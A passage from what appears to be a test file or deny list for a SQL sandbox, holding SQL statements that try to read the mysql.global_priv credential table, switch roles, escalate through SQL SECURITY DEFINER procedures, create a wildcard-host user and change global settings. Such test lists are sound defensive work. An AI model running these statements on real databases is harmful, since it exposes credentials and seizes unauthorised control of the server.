    'INSERT INTO goods VALUES (2)',
    'SELECT * FROM mysql.global_priv',
    'SELECT * FROM further.secret',
    'SELECT name FROM performance_schema.threads',
    'SET ROLE ruler',
  ],
  ...['ALTER PROCEDURE inner_one SQL SECURITY DEFINER; CALL inner_one()', 'SELECT * FROM broken'],
  ...[
    'ALTER PROCEDURE root_one SQL SECURITY DEFINER; CALL root_one()',
    'SET sql_mode = ORACLE; CALL ruled.pack.make()',
  ],
  ...["CREATE USER seized@'%'", 'SET GLOBAL max_connections = 10', 'CREATE DATABASE another'],
];
